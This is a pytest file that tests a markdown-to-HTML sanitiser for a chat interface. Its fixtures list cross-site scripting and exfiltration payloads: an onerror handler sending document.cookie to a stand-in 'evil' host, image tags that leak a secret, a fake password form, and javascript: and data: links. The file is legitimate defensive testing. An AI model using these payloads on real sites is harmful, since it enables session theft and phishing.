"""Markdown from models and people becomes HTML with nothing live of theirs in it (components/safe_markdown.py)."""

from __future__ import annotations

import re

import markdown2
import pytest

from components.safe_markdown import clean_html, safe_link

EXTRAS = ['fenced-code-blocks', 'tables', 'cuddled-lists', 'strike', 'task_list']  # the chat's


def rendered(text: str) -> str:
    """What the chat sends to the browser for `text` (markdown2, as ui.markdown runs it, then the cleaner)."""
    return clean_html(markdown2.markdown(text, extras=EXTRAS))


def tags(html: str) -> set[str]:
    return set(re.findall(r'<([a-z0-9]+)', html))


@pytest.mark.parametrize('attack', [
    '<img src="http://127.0.0.1:9/leak?d=secret">',
    '<img src=x onerror="fetch(`//evil/`+document.cookie)">',
    '<form action="https://evil/"><input type=password name=p><button>Sign in</button></form>',
    '<style>body{display:none}</style>',
    '<script>alert(1)</script>',
    '<iframe src="https://evil/"></iframe>',
    '<svg onload=alert(1)></svg>',
    '<object data="https://evil/x.swf"></object>',
    '<link rel=stylesheet href="https://evil/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil/">',
    '<base href="https://evil/">',
    '<video src="https://evil/v.mp4" autoplay></video>',
    '<textarea>x</textarea><select><option>a</option></select>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
])
def test_raw_html_of_the_model_is_shown_as_text(attack: str) -> None:
    html = rendered(f'Here you go:\n\n{attack}\n\nand more')

    assert tags(html) <= {'p', 'a'}, html
    assert not re.search(r'<[a-z]+[^>]*\son[a-z]+=', html), html  # no event handler on any tag
    if not attack.startswith('<img'):  # an image becomes a link (below); the rest is there to read, as text
        assert '&lt;' in html


def test_an_image_is_a_link_to_it_and_nothing_is_fetched() -> None:
    html = rendered('![the chart](https://charts.example/c.png) <img src="http://127.0.0.1:9/leak?d=x" alt="pic">')

    assert '<img' not in html
    assert '<a href="https://charts.example/c.png" target="_blank" rel="noopener noreferrer">[the chart]</a>' in html
    assert '[pic]</a>' in html


@pytest.mark.parametrize('href', ['javascript:alert(1)', 'JAVASCRIPT:alert(1)', ' javascript:alert(1)',
                                  'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>',
                                  'vbscript:x', '/logout', '//evil.example', 'http:evil'])
def test_a_link_keeps_its_text_but_loses_a_href_that_is_not_http_or_mailto(href: str) -> None:
    for html in (rendered(f'[click]({href})'), rendered(f'<a href="{href}">click</a>')):
        assert 'click</a>' in html
        assert 'href' not in html, html


def test_links_open_in_a_new_tab_without_opener_or_referrer() -> None:
    html = rendered('[docs](https://docs.example/a?b=1&c=2) and <mailto:help@uni.example> and '
                    '<a href="https://x.example" class="fixed inset-0" style="position:fixed" onclick="x()">y</a>')

    assert '<a href="https://docs.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">docs</a>' in html
    assert '<a href="mailto:help@uni.example" target="_blank" rel="noopener noreferrer">' in html
    assert '<a href="https://x.example" target="_blank" rel="noopener noreferrer">y</a>' in html


def test_markdown_itself_still_renders() -> None:
    html = rendered('# Title\n\n**bold** *em* ~~gone~~ `x<y`\n\n> quoted\n\n1. one\n2. two\n\n'
                    '- [ ] todo\n- [x] done\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n'
                    '```python\nif a < b: print("<b>")\n```\n')

    assert {'h1', 'strong', 'em', 's', 'code', 'blockquote', 'ol', 'ul', 'li', 'table', 'th', 'td', 'pre',
            'div', 'span'} <= tags(html)
    assert '<code>x&lt;y</code>' in html
    assert '<div class="codehilite">' in html and '<span class="k">if</span>' in html  # highlighted
    assert '<th style="text-align:left">a</th>' in html and '<td style="text-align:right">2</td>' in html
    assert '☐' in html and '☑' in html and '<input' not in html
    assert '&lt;b&gt;' in html  # code stays code


def test_only_the_highlighters_classes_survive() -> None:
    html = clean_html('<div class="codehilite"><span class="k">x</span><span class="k fixed">y</span></div>'
                      '<div class="fixed inset-0 z-50 bg-white">overlay</div><p class="text-red-600">z</p>')

    assert html == ('<div class="codehilite"><span class="k">x</span><span>y</span></div>'
                    '<div>overlay</div><p>z</p>')


def test_html_cut_off_mid_tag_while_streaming_stays_text() -> None:
    assert clean_html('<p>partial <a href="https://x.exa') == '<p>partial &lt;a href="https://x.exa'
    assert clean_html('<p>x</p><!-- hidden --><!DOCTYPE html>') == '<p>x</p>'


@pytest.mark.parametrize(('url', 'kept'), [
    ('https://example.com/a', 'https://example.com/a'),
    ('HTTP://Example.com', 'http://Example.com'),
    ('mailto:a@b.example', 'mailto:a@b.example'),
    ('https://', None),
    ('ftp://example.com', None),
    ('http://[::1', None),
])
def test_safe_link(url: str, kept: str | None) -> None:
    assert safe_link(url) == kept
